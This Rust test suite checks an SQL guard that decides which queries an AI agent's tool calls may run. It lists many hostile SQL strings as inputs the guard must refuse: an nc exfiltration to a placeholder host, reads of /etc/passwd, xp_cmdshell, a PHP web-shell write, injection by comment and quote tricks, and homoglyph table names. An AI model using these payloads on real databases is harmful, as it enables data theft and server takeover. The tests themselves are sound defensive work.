//! What the SQL guard lets through.
#![expect(clippy::unwrap_used, reason = "a test may fail loudly")]

use agent_control_plane::policy::Policy;
use agent_control_plane::question::{CallKind, Caller, Object, Question};
use agent_primitives::Verdict;
use serde_json::{Map, json};

const GRANT: &str = "statements: [select], tables: [orders, users, sales.*]";

fn allowed(sql_guard: &str, text: &str) -> bool {
    let policy = format!(
        "{{version: 1, rules: [{{id: r, effect: allow, calls: [exec], tools: [q], \
         when: {{args.sql: {{sql: {{{sql_guard}}}}}}}}}]}}"
    );
    let policy = Policy::from_yaml("test", &policy).unwrap();
    let (agent, id, arguments) = ("w".parse().unwrap(), "q".parse().unwrap(), json!({ "sql": text }));
    let object = Object::Tool { id: &id, arguments: &arguments };
    let question = Question::new(CallKind::Exec, object);
    policy.decide(&Caller::new(&agent, &Map::new()), &question).verdict() == Verdict::Allow
}

#[track_caller]
fn check_all(sql_guard: &str, expected: bool, texts: &[&str]) {
    let wrong: Vec<&&str> = texts.iter().filter(|text| allowed(sql_guard, text) != expected).collect();
    assert!(wrong.is_empty(), "expected {expected} under `{sql_guard}`: {wrong:#?}");
}

#[test]
#[rustfmt::skip]
fn plain_queries_pass() {
    check_all(GRANT, true, &[
        "SELECT 1",
        "select id, name from users where id = 7 order by name limit 10 offset 5",
        "SELECT id FROM orders WHERE action='DELETE'",
        "SELECT id FROM orders WHERE note = 'a; DROP TABLE users -- x /* y */'",
        "SELECT u.name, count(*) FROM users u JOIN orders o ON o.user_id = u.id GROUP BY u.name HAVING sum(o.total) > 5",
        "SELECT * FROM USERS", "SELECT * FROM Orders AS o", "SELECT * FROM \"orders\"", "SELECT * FROM sales.q1",
        "SELECT * FROM users;", "SELECT * FROM users -- all of them", "SELECT /* note */ * FROM users",
        "(SELECT 1)", "SELECT 1 UNION ALL SELECT 2", "SELECT id FROM users UNION SELECT user_id FROM orders",
        "SELECT * FROM (SELECT id FROM orders) o", "SELECT * FROM orders WHERE user_id IN (SELECT id FROM users)",
        "WITH o AS (SELECT * FROM orders) SELECT count(*) FROM o",
        "WITH a AS (SELECT * FROM orders), b AS (SELECT * FROM a) SELECT * FROM a, b",
        "WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT sum(n) FROM t",
        "SELECT CASE WHEN total > 5 THEN 'big' ELSE 'small' END FROM orders",
        "SELECT lower(name), upper(name), coalesce(a, b), length(name), round(x), abs(x) FROM users",
        "SELECT CAST(id AS text), id::text FROM users", "SELECT * FROM orders WHERE day >= DATE '2026-01-01'",
        "VALUES (1), (2)", "SELECT max(id) FILTER (WHERE id > 1) FROM orders",
    ]);
}

#[test]
#[rustfmt::skip]
fn nothing_but_the_granted_statement_passes() {
    check_all(GRANT, false, &[
        "", ";", "-- nothing", "SELECT", "SELEC 1", "hello",
        "DROP TABLE users", "DROP/**/TABLE users", "DELETE FROM users", "DELETE users", "DELETE/**/FROM users",
        "delete from users where 1=1", "UPDATE users SET admin = true", "INSERT INTO users VALUES (1)",
        "MERGE INTO users u USING orders o ON u.id = o.id WHEN MATCHED THEN DELETE", "TRUNCATE users",
        "REPLACE INTO users VALUES (1)", "CREATE TABLE users (id int)", "CREATE TABLE users AS SELECT 1",
        "ALTER TABLE users ADD x int", "GRANT ALL ON users TO public", "CALL p()", "EXEC xp_cmdshell 'dir'",
        "EXECUTE p", "PREPARE p AS SELECT 1", "DO $$ BEGIN END $$", "SET ROLE admin", "SHOW TABLES", "USE other",
        "VACUUM", "ANALYZE users", "LOCK TABLE users", "BEGIN", "COMMIT", "ATTACH DATABASE 'x' AS y", "PRAGMA x",
        "COPY orders TO PROGRAM 'nc evil.io 1'", "COPY orders FROM '/etc/passwd'", "COPY (SELECT 1) TO '/tmp/x'",
        "LOAD DATA INFILE '/etc/passwd' INTO TABLE users", "DESCRIBE users", "EXPLAIN SELECT 1",
        "EXPLAIN ANALYZE DELETE FROM users", "EXPLAIN (ANALYZE) DELETE FROM users",
        "SELECT 1; DROP TABLE users", "SELECT 1;;SELECT 2", "SELECT 1; -- \n DELETE FROM users",
        "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
        "WITH d AS (INSERT INTO users VALUES (1) RETURNING *) SELECT * FROM d",
        "WITH d AS (UPDATE users SET a = 1 RETURNING *) SELECT * FROM d", "WITH d AS (SELECT 1) DELETE FROM users",
        "SELECT * FROM (DELETE FROM users RETURNING *) d", "SELECT 1 INTO outfile", "SELECT * INTO copy FROM users",
        "SELECT * INTO TEMP x FROM users", "SELECT '<?php' INTO OUTFILE '/var/www/x.php'", "SELECT 1 INTO @x",
        "SELECT * FROM users FOR UPDATE", "SELECT * FROM users FOR SHARE",
        "SELECT * FROM (SELECT * FROM users FOR UPDATE) u", "TABLE users", "TABLE secrets",
        "SELECT 1 UNION TABLE secrets", "SELECT * FROM (TABLE secrets) t",
    ]);
}

#[test]
#[rustfmt::skip]
fn every_table_anywhere_counts() {
    check_all(GRANT, false, &[
        "SELECT * FROM secrets", "SELECT * FROM orders, secrets", "SELECT * FROM orders JOIN secrets ON true",
        "SELECT (SELECT k FROM secrets)", "SELECT * FROM orders WHERE id IN (SELECT id FROM secrets)",
        "SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM secrets)", "SELECT 1 UNION SELECT k FROM secrets",
        "SELECT * FROM orders o, LATERAL (SELECT * FROM secrets s WHERE s.id = o.id) x",
        "SELECT count((SELECT k FROM secrets)) FROM orders", "SELECT 1 ORDER BY (SELECT k FROM secrets)",
        "SELECT 1 LIMIT (SELECT k FROM secrets)", "SELECT 1 GROUP BY (SELECT k FROM secrets)",
        "SELECT CASE WHEN (SELECT true FROM secrets) THEN 1 END", "VALUES ((SELECT k FROM secrets))",
        "WITH o AS (SELECT * FROM secrets) SELECT * FROM o", "SELECT * FROM (orders JOIN secrets ON true)",
        "SELECT sum(x) OVER (ORDER BY (SELECT k FROM secrets)) FROM orders",
        "SELECT * FROM other.orders", "SELECT * FROM db.sales.q1", "SELECT * FROM sales", "SELECT * FROM \"USERS\"",
        "SELECT * FROM \"sales.q1\"", "SELECT * FROM sales.q1.x", "SELECT * FROM usersx",
        "SELECT * FROM information_schema.tables", "SELECT * FROM pg_catalog.pg_shadow",
    ]);
}

#[test]
#[rustfmt::skip]
fn a_name_is_an_expression_only_where_it_is_one() {
    check_all(GRANT, false, &[
        "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets",
        "WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a",
        "WITH RECURSIVE a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a",
        "SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) x, secrets",
        "SELECT (WITH secrets AS (SELECT 1) SELECT 1), k FROM secrets",
        "WITH secrets AS (SELECT 1) SELECT * FROM public.secrets",
        "WITH \"Secrets\" AS (SELECT 1) SELECT * FROM secrets", "WITH Secrets AS (SELECT 1) SELECT * FROM \"secrets\"",
        "(WITH secrets AS (SELECT 1) SELECT 1) UNION SELECT k FROM secrets",
    ]);
    check_all("statements: [select], tables: ['*']", false, &["SELECT * FROM '/etc/passwd'", "SELECT * FROM a.b"]);
    let deleting = "statements: [select, delete], tables: [orders]";
    check_all(deleting, true, &["DELETE FROM orders WHERE id IN (SELECT id FROM orders)"]);
    check_all(deleting, false, &["WITH secrets AS (SELECT 1) DELETE FROM secrets"]);
}

#[test]
#[rustfmt::skip]
fn functions_are_granted_by_name() {
    check_all(GRANT, false, &[
        "SELECT pg_read_file('/etc/passwd')", "SELECT PG_READ_FILE('x')", "SELECT \"pg_read_file\"('x')",
        "SELECT pg_catalog.count(1)", "SELECT evil.count(id) FROM users", "SELECT load_file('/etc/passwd')",
        "SELECT lo_import('/etc/passwd')", "SELECT pg_sleep(10)", "SELECT sleep(10)", "SELECT benchmark(1, 1)",
        "SELECT dblink_exec('DRO'||'P TABLE x')", "SELECT set_config('role', 'admin', false)", "SELECT nextval('s')",
        "SELECT * FROM pg_read_file('x')", "SELECT * FROM users, pg_ls_dir('/') d",
        "SELECT * FROM generate_series(1, 9)", "SELECT * FROM LATERAL pg_ls_dir('/')",
        "SELECT * FROM TABLE(pg_ls_dir('/'))", "SELECT * FROM unnest(ARRAY[1])",
        "SELECT query_to_xml('select 1', true, true, '')", "SELECT count(pg_sleep(1)) FROM users",
        "SELECT 1 WHERE pg_sleep(1) IS NULL", "SELECT * FROM users ORDER BY random()", "SELECT current_user",
        "SELECT substring(name from 1 for 2) FROM users", "SELECT trim(name) FROM users",
        "SELECT extract(year from d) FROM users", "SELECT 1 OPERATOR(public.+) 2", "SELECT load_extension('x')",
        "SELECT xmlparse(document 'x')",
    ]);
    let listed = "statements: [select], tables: [users, generate_series], functions: [substring, generate_series, app.*]";
    check_all(listed, true, &[
        "SELECT substring(name from 1 for 2) FROM users", "SELECT * FROM generate_series(1, 3)", "SELECT app.f(1)",
    ]);
    check_all(listed, false, &["SELECT count(*) FROM users", "SELECT f(1)", "SELECT * FROM pg_ls_dir('/')"]);
    check_all("statements: [select], tables: [users], functions: []", false, &["SELECT count(*) FROM users"]);
}

#[test]
#[rustfmt::skip]
fn text_that_databases_read_differently_is_refused() {
    check_all(GRANT, false, &[
        "SELECT 1 /*! UNION SELECT k FROM secrets */", "SELECT 1 /*!50000 , (SELECT k FROM secrets) */",
        "SELECT 1 /*M! , 2 */", "SELECT /*+ SET_VAR(x=1) */ 1", "SELECT 1 /* /* */ , 2 -- */",
        "SELECT 1--1", "SELECT 1 --1\n", "SELECT 1 # ' \n , (SELECT k FROM secrets) -- '",
        "SELECT '\\'', (SELECT k FROM secrets), '\\''", "SELECT '\\' OR 1=1 -- '", "SELECT E'\\''",
        "SELECT $$ x $$", "SELECT $a$ x $a$", "SELECT 1 [ ' ] , (SELECT k FROM secrets) [ ' ]",
        "SELECT [id] FROM users", "SELECT @@version", "SELECT @x := 1", "SELECT @x", "SELECT N'x'", "SELECT X'41'",
        "SELECT U&'\\0041'", "SELECT 1 -- x\r, (SELECT k FROM secrets)", "SELECT\u{a0}1", "SELECT 1\0",
        "SELECT 1\u{b}", "SELECT * FROM us\u{435}rs", "SELECT * FROM \u{ff55}sers", "SELECT `a'b` FROM users",
        "SELECT 1 \u{37e} SELECT 2", "SELECT 'a' 'b' \\g", "SELECT {fn now()}", "SELECT 1 !! 2", "SELECT q'[x]'",
    ]);
}

#[test]
#[rustfmt::skip]
fn a_named_dialect_is_read_as_that_database_reads_it() {
    let postgres = format!("dialect: postgres, {GRANT}");
    check_all(&postgres, true, &[
        "SELECT '\\' FROM users", "SELECT a[1], $1 FROM users", "SELECT $$x$$", "SELECT E'\\'' FROM users",
    ]);
    check_all(&postgres, false, &[
        "SELECT $$x$$, (SELECT k FROM secrets)", "SELECT E'\\'' FROM secrets --'", "SELECT 1 /*! x */",
        "SELECT 1 -- x\r, (SELECT k FROM secrets)", "SELECT 1 OPERATOR(pg_catalog.+) 2", "TABLE users",
        "SELECT * FROM ROWS FROM (pg_ls_dir('/')) x", "COPY users TO STDOUT",
    ]);
    let mysql = format!("dialect: mysql, {GRANT}");
    check_all(&mysql, true, &[
        "SELECT '''' FROM users", "SELECT `id` FROM `users`", "SELECT 1 # x", "SELECT \"x\" FROM users",
    ]);
    check_all(&mysql, false, &[
        "SELECT * FROM USERS", "SELECT '\\'', (SELECT k FROM secrets), '\\''", "SELECT 1 /*!50000 , sleep(1) */",
        "SELECT 1 INTO OUTFILE '/tmp/x'", "SELECT 1 INTO DUMPFILE '/tmp/x'", "SELECT @@version", "SELECT @a := 1",
        "SELECT * FROM users LOCK IN SHARE MODE", "SELECT * FROM users PROCEDURE ANALYSE()", "HANDLER users OPEN",
    ]);
    let sqlite = format!("dialect: sqlite, {GRANT}");
    check_all(&sqlite, true, &["SELECT [id] FROM [users]", "SELECT \"id\" FROM users"]);
    check_all(&sqlite, false, &[
        "SELECT 1 [ ' ] , (SELECT k FROM secrets) [ ' ]", "SELECT load_extension('x')", "PRAGMA writable_schema=1",
    ]);
}

#[test]
#[rustfmt::skip]
fn types_collations_and_operators_are_those_of_the_database() {
    for dialect in ["generic", "postgres", "mysql", "sqlite"] {
        let guard = format!("dialect: {dialect}, {GRANT}");
        check_all(&guard, true, &[
            "SELECT CAST(id AS decimal(10, 2)), CAST(id AS char(5)), CAST(id AS date) FROM users",
            "SELECT DATE '2026-01-01'", "SELECT name COLLATE nocase FROM users", "SELECT id AS total FROM users",
            "SELECT name LIKE 'a%' FROM users",
        ]);
        check_all(&guard, false, &[
            "SELECT CAST('secrets' AS regclass)", "SELECT CAST('secrets' AS regtype)", "SELECT CAST(id AS evil) FROM users",
            "SELECT CAST(id AS public.evil) FROM users", "SELECT CAST(id AS \"int\") FROM users",
            "SELECT name COLLATE evil FROM users", "SELECT name COLLATE public.evil FROM users",
            "SELECT id FROM users ORDER BY name COLLATE evil", "SELECT id FROM users GROUP BY name COLLATE \"evil\"",
        ]);
    }
    for dialect in ["generic", "postgres"] {
        check_all(&format!("dialect: {dialect}, {GRANT}"), false, &[
            "SELECT 'secrets'::regclass", "SELECT id::evil FROM users", "SELECT ('{a}'::evil[])[1]",
            "SELECT regclass 'secrets'", "SELECT regtype 'evil'", "SELECT evil 'text'", "SELECT evil 'text', 1 FROM users",
            "SELECT name REGEXP 'a' FROM users", "SELECT name RLIKE 'a' FROM users", "SELECT name NOT REGEXP 'a' FROM users",
        ]);
    }
    let record = "dialect: postgres, statements: [select], tables: [json_to_record], functions: [json_to_record]";
    check_all(record, true, &["SELECT * FROM json_to_record('{}') AS t(a int, b text)", "SELECT '{1}'::int[]"]);
    check_all(record, false, &["SELECT * FROM json_to_record('{}') AS t(a int, b evil)"]);
    let operators = ["SELECT name REGEXP 'a' FROM users", "SELECT name MATCH 'a' FROM users", "SELECT name GLOB 'a' FROM users"];
    check_all(&format!("dialect: sqlite, {GRANT}"), false, &operators);
    check_all(&format!("dialect: sqlite, {GRANT}, functions: [regexp, match, glob]"), true, &operators);
    check_all(&format!("dialect: sqlite, {GRANT}, functions: [match, glob]"), false, &["SELECT name NOT REGEXP 'a' FROM users"]);
    check_all(&format!("dialect: mysql, {GRANT}"), true, &[
        "SELECT name REGEXP 'a' FROM users", "SELECT name COLLATE utf8mb4_bin FROM users",
    ]);
}

#[test]
fn a_backslash_is_refused_where_its_meaning_is_a_setting() {
    let mysql = format!("dialect: mysql, {GRANT}");
    for quote in ["'", "\""] {
        let text = format!("SELECT {quote}\\{quote}, {quote}, k FROM secrets -- {quote}");
        check_all(&mysql, false, &[&text]);
        check_all(&mysql, false, &[&format!("SELECT {quote}\\{quote}{quote} FROM users")]);
        check_all(&mysql, false, &[&format!("SELECT {quote}a\\b{quote} FROM users")]);
    }
}

#[test]
#[rustfmt::skip]
fn writing_statements_need_every_kind_they_contain() {
    let insert = "statements: [insert], tables: [orders]";
    check_all(insert, true, &["INSERT INTO orders (id) VALUES (1)", "INSERT INTO orders VALUES (1) RETURNING id"]);
    check_all(insert, false, &[
        "INSERT INTO users VALUES (1)", "INSERT INTO orders SELECT * FROM orders", "INSERT INTO orders VALUES ((SELECT 1))",
        "INSERT INTO orders VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 2", "REPLACE INTO orders VALUES (1)",
        "INSERT INTO orders VALUES (1) ON CONFLICT DO NOTHING", "INSERT OR REPLACE INTO orders VALUES (1)",
    ]);
    let update = "statements: [update], tables: [orders]";
    check_all(update, true, &["UPDATE orders SET total = 1 WHERE id = 2"]);
    check_all(update, false, &[
        "UPDATE users SET a = 1", "UPDATE orders SET a = (SELECT 1)", "UPDATE orders SET a = 1 FROM users",
    ]);
    let explain = "statements: [explain, select], tables: [orders]";
    check_all(explain, true, &["EXPLAIN SELECT * FROM orders", "EXPLAIN ANALYZE SELECT 1"]);
    check_all(explain, false, &[
        "EXPLAIN ANALYZE DELETE FROM orders", "EXPLAIN SELECT * FROM users", "EXPLAIN EXPLAIN DELETE FROM orders",
    ]);
    check_all("statements: [delete], tables: [orders]", true, &["DELETE FROM orders WHERE id = 1"]);
    check_all("statements: [merge], tables: [orders, users]", true, &[
        "MERGE INTO users u USING orders o ON u.id = o.id WHEN MATCHED THEN DELETE",
    ]);
    check_all("statements: [select, select_for_update], tables: [orders]", true, &["SELECT * FROM orders FOR UPDATE"]);
}

#[test]
fn deep_and_long_texts_are_refused_on_a_small_stack() {
    let shapes = [
        format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000)),
        format!("SELECT {}1", "- ".repeat(5000)),
        format!("SELECT {}true", "NOT ".repeat(5000)),
        format!("SELECT 1{}", "+1".repeat(30_000)),
        format!("SELECT 1{}", " OR 1".repeat(10_000)),
        format!("SELECT 1{}", "::text".repeat(8000)),
        format!("SELECT 1{}", " UNION SELECT 1".repeat(4000)),
        format!("SELECT {}1{}", "CASE WHEN ".repeat(3000), " THEN 1 END".repeat(3000)),
        format!("SELECT {}1{}", "(SELECT ".repeat(3000), ")".repeat(3000)),
        format!("SELECT * FROM {}users{}", "(".repeat(3000), ")".repeat(3000)),
        format!("SELECT CAST(1 AS {}int{})", "ARRAY<".repeat(3000), ">".repeat(3000)),
        format!("SELECT 1{}", " IS NULL".repeat(7000)),
        format!("{}SELECT 1", "EXPLAIN ".repeat(7000)),
        format!("SELECT 1 FROM users{}", " JOIN users".repeat(5000)),
        format!("SELECT * FROM {}users{}", "(SELECT * FROM ".repeat(12), ") x".repeat(12)),
        format!("SELECT CAST(1 AS {}int{})", "NULLABLE(".repeat(3000), ")".repeat(3000)),
        format!("SELECT CAST(1 AS {}int{})", "TUPLE(".repeat(3000), ")".repeat(3000)),
        format!("SELECT CAST(1 AS {}int{})", "STRUCT(a ".repeat(3000), ")".repeat(3000)),
        format!("SELECT 1::{}int{}", "MAP(int, ".repeat(3000), ")".repeat(3000)),
        format!("SELECT {}1{}", "{'a': ".repeat(3000), "}".repeat(3000)),
        format!("SELECT {}1{}", "ARRAY[".repeat(3000), "]".repeat(3000)),
        format!("SELECT 1{}", "[1".repeat(3000)),
        format!("SELECT {}1", "INTERVAL ".repeat(150)),
        format!("SELECT 1 GROUP BY {}1{}", "ROLLUP (".repeat(3000), ")".repeat(3000)),
        format!("SELECT 1 LIKE ANY {}1{}", "(".repeat(3000), ")".repeat(3000)),
        format!("{}SELECT 1{}", "(".repeat(3000), ")".repeat(3000)),
        format!("{}SELECT 1{}", "WITH a AS (".repeat(3000), ") SELECT 1".repeat(3000)),
        format!("SELECT * FROM users{}", " JOIN users ON users.id IN (SELECT 1".repeat(3000)),
        format!("SELECT '{}'", "x".repeat(70_000)),
    ];
    // Less than the 2 MiB that threads of tests and of tokio have.
    let run = std::thread::Builder::new().stack_size(1536 << 10).spawn(move || {
        for (number, text) in shapes.iter().enumerate() {
            for dialect in ["generic", "postgres", "mysql", "sqlite"] {
                assert!(!allowed(&format!("dialect: {dialect}, {GRANT}"), text), "{number} {dialect}");
            }
        }
        // Close to what the limits let through, so that the deepest accepted trees are walked and dropped here too.
        let deep = [
            format!("SELECT 1{}", "+1".repeat(150)),
            format!("SELECT {}1{}", "(".repeat(8), ")".repeat(8)),
            format!("SELECT * FROM {}users{}", "(".repeat(8), ")".repeat(8)),
            format!("SELECT * FROM {}users{}", "(SELECT * FROM ".repeat(4), ") x".repeat(4)),
            format!(
                "SELECT * FROM (SELECT {}1{}{} FROM users) x",
                "abs(".repeat(4),
                ")".repeat(4),
                " IS NULL".repeat(60)
            ),
            format!("SELECT * FROM users WHERE id IN (1{})", ",1".repeat(20_000)),
            format!("SELECT 1{}", ", 1 + 2".repeat(5000)),
        ];
        for text in deep {
            assert!(allowed(GRANT, &text), "{text}");
        }
    });
    run.unwrap().join().unwrap();
}
